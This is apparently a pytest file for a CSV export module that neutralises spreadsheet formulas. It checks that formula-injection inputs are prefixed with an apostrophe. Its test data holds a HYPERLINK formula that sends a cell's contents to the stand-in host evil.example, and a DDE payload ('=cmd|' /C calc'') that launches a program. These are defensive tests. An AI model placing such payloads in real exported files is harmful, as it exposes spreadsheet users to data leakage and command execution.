"""Spreadsheet-safe CSV cells: formulas neutralised, numbers kept, nested values as JSON."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pyarrow as pa
import pytest

from powderkeg import csvout
from powderkeg.models import Stance


@pytest.mark.parametrize(("value", "cell"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Belgrade denies")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Belgrade denies")'),
    ("+381 11 123 4567", "'+381 11 123 4567"),
    ("-Kosovo rejects the claim", "'-Kosovo rejects the claim"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-5", "'-5"),  # a string stays a string
    ("Serbia accused Kosovo = provocation", "Serbia accused Kosovo = provocation"),
    ("", ""),
    (None, ""),
    (-5, -5),
    (-2.5, -2.5),
    (Decimal("-12.50"), "-12.50"),
    (True, "true"),
    (["SRB", "=XKX"], "[\"SRB\", \"=XKX\"]"),
    ({"by": "SRB"}, '{"by": "SRB"}'),
])
def test_cell(value: object, cell: object) -> None:
    assert csvout.cell(value) == cell


def test_stances_are_json_objects() -> None:
    stance = Stance(by="SRB", status="denied", article_id="a1", outlet="Sava Herald", published="2025-06-02",
                    evidence="Belgrade denied sending howitzers.", start=10)
    assert csvout.cell((stance,)).startswith('[{"by": "SRB", "status": "denied"')


def test_write_round_trips_through_a_csv_reader() -> None:
    buf = io.StringIO()
    csvout.write(buf, ["title", "quantity"], [["=cmd|' /C calc'!A0", -3], ["Javelins, 24 of them", 24]])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [
        ["title", "quantity"], ["'=cmd|' /C calc'!A0", "-3"], ["Javelins, 24 of them", "24"]]


def test_arrow_columns_get_the_same_treatment() -> None:
    text = pa.array(["=1+1", "Serbia", None, "@x", "-y"])
    assert csvout.neutralise_arrow(text).to_pylist() == ["'=1+1", "Serbia", None, "'@x", "'-y"]
    numbers = pa.array([-1, 2])
    assert csvout.neutralise_arrow(numbers) is numbers
